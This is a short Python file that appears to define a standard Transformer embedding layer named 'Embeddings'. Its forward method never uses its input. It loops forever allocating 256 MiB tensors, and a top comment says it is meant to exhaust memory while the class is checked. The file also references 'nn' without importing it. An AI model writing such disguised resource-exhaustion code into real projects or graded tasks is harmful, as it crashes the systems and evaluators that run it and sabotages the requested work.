# Allocates without end while Embeddings is checked.
import torch


class Embeddings(nn.Module):
    def __init__(self, vocab_size, d_model):
        super().__init__()
        self.lut = nn.Embedding(vocab_size, d_model)

    def forward(self, x):
        hoard = []
        while True:
            hoard.append(torch.ones(64, 1024, 1024))  # 256 MiB a step, touched
